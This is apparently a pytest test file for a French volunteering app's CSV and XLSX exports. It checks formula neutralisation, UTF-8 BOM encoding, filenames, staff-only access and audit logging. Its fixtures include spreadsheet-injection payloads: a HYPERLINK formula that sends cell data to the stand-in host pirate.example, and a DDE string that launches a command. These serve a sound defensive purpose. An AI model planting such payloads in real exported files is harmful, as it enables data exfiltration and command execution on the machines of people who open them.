"""CSV and XLSX exports: formulas neutralised, UTF-8 with BOM, file named after the period."""

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
import sqlalchemy as sa

from app import exports
from app.audit import AuditEvent
from app.centres.models import Role
from app.extensions import db
from app.volunteering import exports as volunteering_exports
from app.volunteering.models import Category
from tests.volunteering.factories import make_mission
from tests.volunteering.hours_factories import validated

EVIL = '=HYPERLINK("http://pirate.example/vol?d="&A1,"Cliquez ici")'


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-2", "'-2"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("Aide aux devoirs", "Aide aux devoirs"),
        ("Émile = président", "Émile = président"),
    ],
)
def test_neutralise(text, safe):
    assert exports.neutralise(text) == safe


def _rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def test_csv_is_inert_and_keeps_accents(structure):
    header, rows = ["Nom", "Heures", "Date"], [[EVIL, Decimal("2.5"), date(2026, 3, 14)], ["Chloé Lefèvre", 3, None]]
    parsed = _rows(exports.to_csv(header, rows))
    assert parsed == [
        ["Nom", "Heures", "Date"],
        ["'" + EVIL, "2,50", "2026-03-14"],
        ["Chloé Lefèvre", "3", ""],
    ]


def _xlsx_parts(body: bytes) -> tuple[str, str]:
    with zipfile.ZipFile(io.BytesIO(body)) as workbook:
        sheet = workbook.read("xl/worksheets/sheet1.xml").decode()
        strings = workbook.read("xl/sharedStrings.xml").decode()
    return sheet, strings


def test_xlsx_writes_text_as_text(structure):
    body = exports.to_xlsx(["Nom", "Heures"], [[EVIL, Decimal("2.5")], ["+33 6 12", 1]], "Heures")
    sheet, strings = _xlsx_parts(body)
    assert "<f>" not in sheet  # no formula anywhere
    assert "HYPERLINK" in strings and "+33 6 12" in strings  # kept as shared strings (text)
    assert "<v>2.5</v>" in sheet  # numbers stay numbers


@pytest.fixture
def data(structure, make_user):
    staff = make_user(role=Role.STAFF, display_name="Julie Bernard")
    evil = make_user(display_name=EVIL)
    chloe = make_user(display_name="Chloé Lefèvre")
    mission = make_mission(structure, "=cmd|' /C calc'!A0")
    validated(structure, evil, staff, date(2026, 1, 1), "2.5", Category.ACTIVITY, description="@SUM(1+1)*cmd")
    validated(structure, chloe, staff, date(2026, 12, 31), "3", Category.GOVERNANCE, mission_id=mission.id)
    validated(structure, chloe, staff, date(2027, 1, 1), "4", Category.GOVERNANCE)  # outside 2026
    return {"staff": staff}


def test_entries_table(data, structure):
    header, rows = volunteering_exports.entries_table([structure.id], date(2026, 1, 1), date(2026, 12, 31))
    assert header[:4] == ["Date", "Bénévole", "Catégorie", "Heures"]
    assert [(r[0], r[1], r[3], r[10]) for r in rows] == [
        (date(2026, 1, 1), EVIL, Decimal("2.50"), Decimal("30.05")),
        (date(2026, 12, 31), "Chloé Lefèvre", Decimal("3.00"), Decimal("36.06")),
    ]
    assert rows[1][5] == "=cmd|' /C calc'!A0"  # the mission, neutralised when written
    assert rows[0][11] == "Julie Bernard"


def test_export_routes(client, auth, data, structure):
    auth.login(data["staff"])
    r = client.get("/benevolat/heures/rapports/export/heures.csv?annee=2026")
    assert r.status_code == 200
    assert r.mimetype == "text/csv"
    assert r.headers["Content-Disposition"] == 'attachment; filename="heures-benevolat_2026-01-01_2026-12-31.csv"'
    rows = _rows(r.data)
    assert len(rows) == 3
    assert rows[1][1] == "'" + EVIL
    assert rows[1][6] == "'@SUM(1+1)*cmd"
    assert rows[2][5] == "'=cmd|' /C calc'!A0"
    assert rows[2][1] == "Chloé Lefèvre"

    r = client.get("/benevolat/heures/rapports/export/releves.xlsx?du=2026-01-01&au=2027-01-01")
    assert r.status_code == 200
    assert r.headers["Content-Disposition"] == 'attachment; filename="releves-benevoles_2026-01-01_2027-01-01.xlsx"'
    sheet, strings = _xlsx_parts(r.data)
    assert "<f>" not in sheet
    assert "HYPERLINK" in strings and "Chloé Lefèvre" in strings

    statements = _rows(client.get("/benevolat/heures/rapports/export/releves.csv?annee=2026").data)
    assert statements[0][0] == "Bénévole"
    assert statements[1][0] == "'" + EVIL  # sorted by name ("=" first)
    assert statements[2][0] == "Chloé Lefèvre"
    assert statements[2][-4:] == ["3,00", "36,06", "1", "3,00"]  # hours, value, entries, CEC hours

    exported = db.session.scalars(sa.select(AuditEvent).where(AuditEvent.action == "data_export")).all()
    assert len(exported) == 3
    assert client.get("/benevolat/heures/rapports/export/autre.csv").status_code == 404
    assert client.get("/benevolat/heures/rapports/export/heures.pdf").status_code == 404


def test_exports_are_for_staff(client, auth, data, structure, make_user):
    assert client.get("/benevolat/heures/rapports/export/heures.csv").status_code == 302  # to the login page
    auth.login(make_user(role=Role.COORDINATOR))
    assert client.get("/benevolat/heures/rapports/export/heures.csv").status_code == 403
